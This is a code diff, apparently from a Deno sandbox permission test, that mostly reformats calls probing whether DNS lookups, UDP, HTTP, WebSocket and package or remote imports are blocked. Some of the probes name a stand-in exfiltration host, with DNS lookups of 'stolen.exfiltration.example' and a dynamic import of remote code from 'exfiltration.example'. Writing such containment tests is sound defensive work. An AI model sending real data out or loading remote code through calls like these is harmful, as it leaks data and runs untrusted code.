@@ -55,8 +55,14 @@ export default {
         );
       }
       evidence.push(
-        await attempt("Deno.resolveDns", async () => `${(await Deno.resolveDns("stolen.exfiltration.example", "A")).length} records`),
-        await attempt("node:dns lookup", async () => (await (await builtin("dns")).promises.lookup("stolen.exfiltration.example")).address),
+        await attempt(
+          "Deno.resolveDns",
+          async () => `${(await Deno.resolveDns("stolen.exfiltration.example", "A")).length} records`,
+        ),
+        await attempt(
+          "node:dns lookup",
+          async () => (await (await builtin("dns")).promises.lookup("stolen.exfiltration.example")).address,
+        ),
         await attempt("UDP", async () => {
           const socket = Deno.listenDatagram({ hostname: "0.0.0.0", port: 0, transport: "udp" });
           return `${await socket.send(new Uint8Array(1), { hostname: "127.0.0.1", port, transport: "udp" })} bytes`;
@@ -82,15 +88,20 @@ export default {
             get({ host: "127.0.0.1", port }, (answer) => resolve(`status ${answer.statusCode}`)).once("error", reject);
           });
         }),
-        await attempt("remote import", async () => typeof (await import(`https://exfiltration.example/stolen-${Date.now()}.js`))),
+        await attempt(
+          "remote import",
+          async () => typeof (await import(`https://exfiltration.example/stolen-${Date.now()}.js`)),
+        ),
         await attempt("npm import", async () => typeof (await import(["npm", "left-pad@1.3.0"].join(":")))),
         await attempt("jsr import", async () => typeof (await import(["jsr", "@std/assert"].join(":")))),
-        await attempt("WebSocket", () =>
-          new Promise((resolve, reject) => {
-            const socket = new WebSocket(`ws://127.0.0.1:${port}/`);
-            socket.onopen = () => resolve("open");
-            socket.onerror = (event) => reject(new Error(event.message ?? "refused"));
-          }),
+        await attempt(
+          "WebSocket",
+          () =>
+            new Promise((resolve, reject) => {
+              const socket = new WebSocket(`ws://127.0.0.1:${port}/`);
+              socket.addEventListener("open", () => resolve("open"));
+              socket.addEventListener("error", (event) => reject(new Error(event.message ?? "refused")));
+            }),
         ),
       );
       return { evidence };
